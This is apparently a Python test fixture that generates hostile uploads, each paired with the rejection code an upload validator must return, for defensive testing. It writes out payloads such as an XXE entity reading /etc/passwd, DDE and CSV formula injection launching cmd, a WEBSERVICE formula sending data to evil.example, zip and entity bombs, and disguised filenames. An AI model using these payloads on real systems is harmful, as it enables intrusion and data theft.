"""Hostile files for the one road of uploads: each with the exact reason that must refuse it."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

import openpyxl
import pikepdf

from tests.signing import pdf_bytes, picture_bytes

PDF, PNG, JPEG = "application/pdf", "image/png", "image/jpeg"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_R = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
_DOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@dataclass(frozen=True)
class Hostile:
    words: str
    name: str
    data: bytes
    code: str
    declared: str = ""


def word(
    extra: dict[str, bytes] | None = None, *, body: str = "<w:p/>", rels: str = "", types: str = ""
) -> bytes:
    """A small DOCX; further parts, body, relationships and types as given."""
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{WORD}.main+xml"/>{types}</Types>'
        ).encode(),
        "_rels/.rels": (
            f'<Relationships {_R}><Relationship Id="r1" Type="{_DOC}/officeDocument" Target="word/document.xml"/>'
            "</Relationships>"
        ).encode(),
        "word/document.xml": f"<w:document {_W}><w:body>{body}</w:body></w:document>".encode(),
    }  # fmt: skip
    if rels:
        parts["word/_rels/document.xml.rels"] = f"<Relationships {_R}>{rels}</Relationships>".encode()
    return zipped(parts | (extra or {}))


def zipped(parts: dict[str, bytes], level: int = 6) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return out.getvalue()


def workbook(formula: str = "", value: object = 3) -> bytes:
    book = openpyxl.Workbook()
    book.active["A1"] = formula or value  # type: ignore[index]
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def external(kind: str, target: str) -> str:
    return f'<Relationship Id="r9" Type="{_DOC}/{kind}" Target="{target}" TargetMode="External"/>'


def claimed_png(width: int, height: int) -> bytes:
    """A PNG that says it is huge and holds next to nothing."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(bytes(100)))
        + chunk(b"IEND", b"")
    )


def locked_pdf() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(owner="a", user="b"))
    return out.getvalue()


def long_pdf(pages: int) -> bytes:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(20, 20))
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def hostile_uploads() -> Iterator[Hostile]:
    yield from _empty_and_cut()
    yield from _not_taken()
    yield from _disagreeing()
    yield from _names()
    yield from _two_in_one()
    yield from _bombs()
    yield from _office()
    yield from _texts()


def _empty_and_cut() -> Iterator[Hostile]:
    yield Hostile("nothing at all", "a.pdf", b"", "upload.empty", PDF)
    whole = {"pdf": (pdf_bytes(), PDF), "docx": (word(), WORD), "xlsx": (workbook(), EXCEL)}
    for ending, (data, declared) in whole.items():
        for percent in (20, 50, 80, 95, 99):
            cut = data[: len(data) * percent // 100]
            yield Hostile(f"{ending} cut at {percent} %", f"a.{ending}", cut, "upload.damaged", declared)
    for ending, form in (("png", "PNG"), ("jpg", "JPEG"), ("webp", "WEBP")):
        data = picture_bytes(form, (300, 200))
        for percent in (30, 60, 90):
            cut = data[: len(data) * percent // 100]
            yield Hostile(f"{form} cut at {percent} %", f"a.{ending}", cut, "upload.damaged")
    yield Hostile("only the mark of a PNG", "a.png", b"\x89PNG\r\n\x1a\n", "upload.damaged", PNG)
    yield Hostile("only the mark of a PDF", "a.pdf", b"%PDF-1.7\n", "upload.damaged", PDF)
    broken = bytearray(picture_bytes("PNG", (300, 200)))
    broken[60:90] = bytes(30)
    yield Hostile("a PNG overwritten in the middle", "a.png", bytes(broken), "upload.damaged", PNG)
    middle = bytearray(word())
    middle[60:120] = bytes(60)
    yield Hostile("a DOCX overwritten in the middle", "a.docx", bytes(middle), "upload.damaged", WORD)
    yield Hostile("a PDF without pages", "a.pdf", _without_pages(), "upload.damaged", PDF)
    yield Hostile("a PDF with a password", "a.pdf", locked_pdf(), "upload.password", PDF)


def _without_pages() -> bytes:
    pdf = pikepdf.new()
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _not_taken() -> Iterator[Hostile]:
    kinds = {
        "a GIF": (b"GIF89a" + bytes(60), "a.gif"), "a GIF named PNG": (b"GIF89a" + bytes(60), "a.png"),
        "a BMP": (b"BM" + bytes(80), "a.bmp"), "a TIFF": (b"II*\x00" + bytes(80), "a.tif"),
        "a program": (b"MZ" + bytes(200), "a.exe"), "a program named PDF": (b"MZ" + bytes(200), "a.pdf"),
        "a Linux program": (b"\x7fELF" + bytes(100), "a.bin"), "a ZIP": (zipped({"a.txt": b"x"}), "a.zip"),
        "a ZIP named DOCX": (zipped({"a.txt": b"x"}), "a.docx"),
        "a presentation": (zipped({"ppt/presentation.xml": b"<a/>"}), "a.pptx"),
        "an old Word file": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "a.doc"),
        "a locked workbook named XLSX": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "a.xlsx"),
        "a web page": (b"<!DOCTYPE html><script>alert(1)</script>", "a.html"),
        "a web page named text": (b"  \n<html><body onload=x>", "a.txt"),
        "a script named CSV": (b"<script>alert(1)</script>", "a.csv"),
        "an SVG": (b"<svg xmlns='http://www.w3.org/2000/svg' onload='x'/>", "a.svg"),
        "an SVG named text": (b"\xef\xbb\xbf<svg/>", "a.txt"), "XML named text": (b"<?xml version='1.0'?><a/>", "a.txt"),
        "RTF": (b"{\\rtf1 x}", "a.txt"), "PostScript": (b"%!PS-Adobe", "a.txt"), "a shell script": (b"#!/bin/sh\nrm x", "a.txt"),
        "a shortcut": (b"[InternetShortcut]\nURL=file://x", "a.txt"), "a saved page": (b"MIME-Version: 1.0\n", "a.txt"),
        "text in UTF-16": ("A,B\n".encode("utf-16"), "a.csv"), "text in an old encoding": (b"Caf\xe9\n", "a.txt"),
        "text with a NUL": (b"a\x00b", "a.txt"), "text with a bell": (b"a\x07b", "a.txt"),
        "random bytes": (bytes(range(128, 256)) * 3, "a.pdf"), "a private key": (b"-----BEGIN" + b" PRIVATE KEY-----\n", "a.txt"),
        "a PDF behind other bytes": (b"junk" + pdf_bytes(), "a.pdf"),
    }  # fmt: skip
    for words, (data, name) in kinds.items():
        yield Hostile(words, name, data, "upload.kind")
    heic = struct.pack(">I", 24) + b"ftypheic" + bytes(12) + bytes(100)
    yield Hostile("HEIC without a reader", "a.heic", heic, "upload.heic")


def _disagreeing() -> Iterator[Hostile]:
    yield Hostile("a PNG named JPEG", "a.jpg", picture_bytes(), "upload.ending", JPEG)
    yield Hostile("a PDF named DOCX", "a.docx", pdf_bytes(), "upload.ending", WORD)
    yield Hostile("a PDF named HTML", "a.html", pdf_bytes(), "upload.ending", PDF)
    yield Hostile("a PDF named EXE", "a.exe", pdf_bytes(), "upload.ending", PDF)
    yield Hostile("a workbook named DOCX", "a.docx", workbook(), "upload.ending", WORD)
    yield Hostile("a DOCX named ZIP", "a.zip", word(), "upload.ending")
    yield Hostile("a PDF without an ending", "report", pdf_bytes(), "upload.ending", PDF)
    yield Hostile("a name that is only an ending and a dot", "pdf.", pdf_bytes(), "upload.ending", PDF)
    yield Hostile("text named PDF", "a.pdf", b"just words", "upload.ending", PDF)
    yield Hostile("a PDF sent as a web page", "a.pdf", pdf_bytes(), "upload.declared", "text/html")
    yield Hostile("a PNG sent as SVG", "a.png", picture_bytes(), "upload.declared", "image/svg+xml")
    yield Hostile("a JPEG sent as PNG", "a.jpg", picture_bytes("JPEG"), "upload.declared", PNG)
    yield Hostile("text sent as a script", "a.txt", b"words", "upload.declared", "application/javascript")


def _names() -> Iterator[Hostile]:
    for hidden in ("exe", "js", "html", "php", "svg", "docm", "bat", "EXE"):
        yield Hostile(
            f"two endings, {hidden}", f"report.{hidden}.pdf", pdf_bytes(), "upload.double_ending", PDF
        )
    yield Hostile("a NUL in the name", "report.pdf\0.exe", pdf_bytes(), "upload.name", PDF)
    yield Hostile("a NUL before the ending", "a\0.pdf", pdf_bytes(), "upload.name", PDF)
    yield Hostile("a name turned round", "report\u202efdp.exe", pdf_bytes(), "upload.ending", PDF)
    yield Hostile(
        "blanks hide the ending", "report.pdf" + " " * 60 + ".exe", pdf_bytes(), "upload.ending", PDF
    )


def _two_in_one() -> Iterator[Hostile]:
    page = b"<html><script>alert(1)</script></html>"
    yield Hostile("a web page that is a PDF further on", "a.pdf", page + pdf_bytes(), "upload.kind", PDF)
    yield Hostile("a GIF that is a ZIP further on", "a.docx", b"GIF89a" + word(), "upload.kind", WORD)
    yield Hostile(
        "a JPEG sent as the PDF it holds", "a.pdf", picture_bytes("JPEG") + pdf_bytes(), "upload.ending", PDF
    )
    yield Hostile("a PDF sent as the DOCX it holds", "a.docx", pdf_bytes() + word(), "upload.ending", WORD)
    yield Hostile("a program in front of a DOCX", "a.docx", b"MZ" + word(), "upload.kind", WORD)


def _bombs() -> Iterator[Hostile]:
    yield Hostile("too large", "a.txt", b"word " * 4_100_000, "upload.size", "text/plain")
    zeros = zipped({"[Content_Types].xml": b"<a/>", "word/document.xml": bytes(30_000_000)}, level=9)
    yield Hostile("a DOCX of noughts", "a.docx", zeros, "upload.bomb", WORD)
    many = {f"word/x{n}.xml": b"" for n in range(3_100)} | {"word/document.xml": b"<a/>"}
    yield Hostile("a DOCX of 3,100 parts", "a.docx", zipped(many), "upload.bomb", WORD)
    lying = bytearray(zeros)
    yield Hostile("a DOCX that lies about its size", "a.docx", _lies(bytes(lying)), "upload.damaged", WORD)
    laughs = (
        b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><w:document '
        + _W.encode()
        + b">&b;</w:document>"
    )
    yield Hostile(
        "entities that multiply", "a.docx", word({"word/document.xml": laughs}), "upload.damaged", WORD
    )
    outside = (
        b'<!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document '
        + _W.encode()
        + b">&a;</w:document>"
    )
    yield Hostile(
        "an entity that reads a file", "a.docx", word({"word/document.xml": outside}), "upload.damaged", WORD
    )
    yield Hostile(
        "a picture of 30,000 points a side", "a.png", claimed_png(30_000, 30_000), "upload.pixels", PNG
    )
    yield Hostile("a picture of one very long line", "a.png", claimed_png(400_000, 1), "upload.pixels", PNG)
    huge = word({"word/media/i.png": claimed_png(30_000, 30_000)})
    yield Hostile("a huge picture inside a DOCX", "a.docx", huge, "upload.pixels", WORD)
    yield Hostile("a PDF of 2,001 pages", "a.pdf", long_pdf(2_001), "upload.pages", PDF)


def _lies(package: bytes) -> bytes:
    """The same package whose table says that a part is small."""
    real = struct.pack("<I", 30_000_000)
    return package.replace(real, struct.pack("<I", 100))


def _office() -> Iterator[Hostile]:
    macro = '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    yield Hostile("macros", "a.docx", word({"word/vbaProject.bin": b"x"}), "upload.macros", WORD)
    yield Hostile("macros said in the types", "a.docx", word(types=macro), "upload.macros", WORD)
    yield Hostile(
        "macros under another case", "a.docx", word({"word/VBAproject.BIN": b"x"}), "upload.macros", WORD
    )
    yield Hostile(
        "a form control", "a.docx", word({"word/activeX/activeX1.xml": b"<a/>"}), "upload.macros", WORD
    )
    yield Hostile(
        "a macro sheet",
        "a.xlsx",
        rezip(workbook(), {"xl/macrosheets/sheet1.xml": b"<a/>"}),
        "upload.macros",
        EXCEL,
    )
    yield Hostile(
        "another file inside", "a.docx", word({"word/embeddings/a.xlsx": workbook()}), "upload.embedded", WORD
    )
    plain = word({"word/x.dat": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"})
    yield Hostile("an OLE object under a plain name", "a.docx", plain, "upload.embedded", WORD)
    yield Hostile(
        "a program inside", "a.docx", word({"word/media/i.png": b"MZ" + bytes(50)}), "upload.embedded", WORD
    )
    for kind, target in (
        ("attachedTemplate", "http://evil.example/t.dotm"), ("image", "http://evil.example/track.png"),
        ("oleObject", "file://server/x"), ("hyperlink", "file://server/share/x.exe"), ("hyperlink", "\\\\server\\share"),
        ("hyperlink", "javascript:alert(1)"), ("frame", "http://evil.example/"),
    ):  # fmt: skip
        yield Hostile(
            f"{kind} from {target}", "a.docx", word(rels=external(kind, target)), "upload.external", WORD
        )
    for field in (
        "DDEAUTO cmd '/k calc'",
        "DDE x",
        "INCLUDEPICTURE http://evil.example/x",
        "INCLUDETEXT file",
    ):
        body = f"<w:p><w:r><w:instrText>{field}</w:instrText></w:r></w:p>"
        yield Hostile(f"the field {field}", "a.docx", word(body=body), "upload.external", WORD)
    for formula in ('=WEBSERVICE("http://evil.example/"&A2)', "=cmd|'/c calc'!A0", '=RTD("x",,"y")'):
        yield Hostile(f"the formula {formula}", "a.xlsx", workbook(formula), "upload.external", EXCEL)
    linked = rezip(workbook(), {"xl/externalLinks/externalLink1.xml": b"<a/>"})
    yield Hostile("data of another workbook", "a.xlsx", linked, "upload.external", EXCEL)
    yield Hostile(
        "a data connection",
        "a.xlsx",
        rezip(workbook(), {"xl/connections.xml": b"<a/>"}),
        "upload.external",
        EXCEL,
    )
    for name in ("../../evil.xml", "/etc/passwd", "word\\..\\x.xml", "C:x.xml"):
        yield Hostile(f"a part named {name}", "a.docx", word({name: b"<a/>"}), "upload.damaged", WORD)
    yield Hostile(
        "two parts of one name", "a.docx", word({"word/Document.xml": b"<a/>"}), "upload.damaged", WORD
    )
    yield Hostile("a package with a password", "a.docx", encrypted(word()), "upload.password", WORD)


def rezip(package: bytes, extra: dict[str, bytes]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(package)) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    return zipped(parts | extra)


def encrypted(package: bytes) -> bytes:
    """The same package with the mark of encryption on each part."""
    data = bytearray(package)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def _texts() -> Iterator[Hostile]:
    for cell in (
        "=1+1",
        "@SUM(A1)",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd",
        "\t=1",
        '"=1"',
        '\'=HYPERLINK("http://evil.example")',
    ):
        row = cell if cell.startswith('"') else '"' + cell.replace('"', '""') + '"'
        yield Hostile(
            f"the cell {cell!r}", "a.csv", f"name,value\nx,{row}\n".encode(), "upload.formula", "text/csv"
        )
